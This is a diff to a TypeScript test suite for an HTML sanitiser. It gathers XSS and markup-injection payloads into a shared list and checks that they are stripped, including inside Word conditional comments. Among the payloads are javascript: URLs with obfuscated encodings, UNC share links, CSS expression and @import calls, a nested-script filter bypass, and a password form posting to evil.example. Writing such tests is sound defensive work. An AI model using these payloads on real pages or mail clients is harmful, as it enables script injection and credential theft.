@@ -117,29 +117,32 @@ describe('the sanitiser keeps unchanged', () => {
   })
 })
 
+/** Markup, and what is left of it in a comment for Word. */
+const HARMFUL: readonly (readonly [dirty: string, clean: string])[] = [
+  ['<script>alert(1)</script>', ''],
+  ['<p onclick="alert(1)">x</p>', '<p>x</p>'],
+  ['<a href="javascript:alert(1)">x</a>', '<a>x</a>'],
+  ['<a href="&#106;avascript:alert(1)">x</a>', '<a>x</a>'],
+  ['<a href="javascript&colon;alert(1)">x</a>', '<a>x</a>'],
+  ["<a href='\\\\host\\share'>x</a>", '<a>x</a>'],
+  ['<a href="file://host/share">x</a>', '<a>x</a>'],
+  ['<v:fill src="\\\\host\\share\\a.png" color="#fff">', '<v:fill color="#fff">'],
+  ['<v:imagedata src="data:image/svg+xml;base64,AA==">', '<v:imagedata>'],
+  ['<iframe src="https://evil.example">x</iframe>', ''],
+  ['<object data="x"><p>y</p></object>', ''],
+  ['<form action="https://evil.example"><input name="password">x</form>', 'x'],
+  ['<p style="width:expression(alert(1));color:red">x</p>', '<p style="color:red">x</p>'],
+  ['<p style="background:url(&#106;avascript:alert(1))">x</p>', '<p>x</p>'],
+  [
+    '<style>@import "https://evil.example/a.css";p{behavior:url(x.htc);color:red}</style>',
+    '<style>p{color:red}</style>',
+  ],
+  ['<div style="position:fixed">x</div>', '<div>x</div>'],
+  ['<scr<script></script>ipt>alert(1)</script>', 'ipt&gt;alert(1)'],
+]
+
 describe('the sanitiser removes, also in conditional comments for Word', () => {
-  test.each([
-    ['<script>alert(1)</script>', ''],
-    ['<p onclick="alert(1)">x</p>', '<p>x</p>'],
-    ['<a href="javascript:alert(1)">x</a>', '<a>x</a>'],
-    ['<a href="&#106;avascript:alert(1)">x</a>', '<a>x</a>'],
-    ['<a href="javascript&colon;alert(1)">x</a>', '<a>x</a>'],
-    ["<a href='\\\\host\\share'>x</a>", '<a>x</a>'],
-    ['<a href="file://host/share">x</a>', '<a>x</a>'],
-    ['<v:fill src="\\\\host\\share\\a.png" color="#fff">', '<v:fill color="#fff">'],
-    ['<v:imagedata src="data:image/svg+xml;base64,AA==">', '<v:imagedata>'],
-    ['<iframe src="https://evil.example">x</iframe>', ''],
-    ['<object data="x"><p>y</p></object>', ''],
-    ['<form action="https://evil.example"><input name="password">x</form>', 'x'],
-    ['<p style="width:expression(alert(1));color:red">x</p>', '<p style="color:red">x</p>'],
-    ['<p style="background:url(&#106;avascript:alert(1))">x</p>', '<p>x</p>'],
-    [
-      '<style>@import "https://evil.example/a.css";p{behavior:url(x.htc);color:red}</style>',
-      '<style>p{color:red}</style>',
-    ],
-    ['<div style="position:fixed">x</div>', '<div>x</div>'],
-    ['<scr<script></script>ipt>alert(1)</script>', 'ipt&gt;alert(1)'],
-  ])('%s', async (dirty, clean) => {
+  test.each(HARMFUL)('%s', async (dirty, clean) => {
     const found = await sanitize(`<p>a</p><!--[if mso]>${dirty}<![endif]-->`)
     expect(found).toBe(`<p>a</p><!--[if mso]>${clean}<![endif]-->`)
   })
@@ -349,6 +352,15 @@ describe('[AUTO-18] DOMPurify finds nothing to remove in what the sanitiser with
     expect(tree).toEqual(ofPane)
     await judgeMarkup(html, 'preview')
     expect(name).not.toBe('')
+  })
+
+  test.each(HARMFUL)('of %s', async (dirty) => {
+    for (const html of [
+      dirty,
+      `<p>a</p><!--[if mso]>${dirty}<![endif]-->`,
+      `<table>${dirty}<tr><td>${dirty}`,
+    ])
+      await judgeMarkup(html)
   })
 
   test('of pieces in any order', async () => {
